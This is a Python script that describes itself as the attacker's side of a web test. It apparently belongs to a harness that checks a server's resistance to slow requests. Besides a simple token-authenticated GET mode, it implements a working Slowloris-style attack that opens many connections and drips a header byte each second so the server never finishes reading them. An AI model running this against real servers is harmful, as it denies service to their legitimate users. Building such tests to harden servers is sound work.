"""A web view client for the attacker's side.

python web_client.py get URL [TOKEN_FILE]  prints {"code": ..., "body": ...} as JSON, one line
python web_client.py hold URL N           opens N connections that send a request line and then
                                          a header byte a second from the start, never a
                                          whole request;
                                          prints "holding N" once all are open, and holds them
                                          until killed (LIFETIME_S at most)
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import socket
import struct
import sys
import termios
import threading
import time
import urllib.error
import urllib.request
from urllib.parse import urlsplit

LIFETIME_S = 120.0


def get(url: str, token_file: str | None) -> None:
    headers = {}
    if token_file is not None:
        with open(token_file) as f:
            headers["Authorization"] = f"Bearer {f.read().strip()}"
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers),
                                    timeout=30) as answer:
            code, body = answer.status, answer.read()
    except urllib.error.HTTPError as e:
        code, body = e.code, e.read()
    print(json.dumps({"code": code, "body": body.decode(errors="replace")}), flush=True)


def hold(url: str, count: int) -> None:
    parts = urlsplit(url)
    held: list[socket.socket] = []
    threading.Thread(target=drip, args=(held,), daemon=True).start()
    for _ in range(count):
        conn = socket.create_connection((parts.hostname, parts.port), timeout=30)
        conn.sendall(b"GET / HTTP/1.1\r\n")
        # Once the server's kernel acknowledged the line, the connection is in its accept queue
        # (a full queue drops the handshake's end, and the client would think it connected).
        while _unacknowledged(conn):
            time.sleep(0.01)
        held.append(conn)
    print(f"holding {len(held)}", flush=True)
    time.sleep(LIFETIME_S)


def drip(held: list[socket.socket]) -> None:
    """A header that never ends, a byte a second on each connection: every read the server
    waits in gets a byte before it times out. One the server cut stays held here all the same."""
    while True:
        time.sleep(1.0)
        for conn in list(held):
            with contextlib.suppress(OSError):
                conn.sendall(b"X")


def _unacknowledged(conn: socket.socket) -> int:
    return int(struct.unpack("i", fcntl.ioctl(conn, termios.TIOCOUTQ, b"\0" * 4))[0])


if __name__ == "__main__":
    if sys.argv[1] == "get":
        get(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else None)
    else:
        hold(sys.argv[2], int(sys.argv[3]))
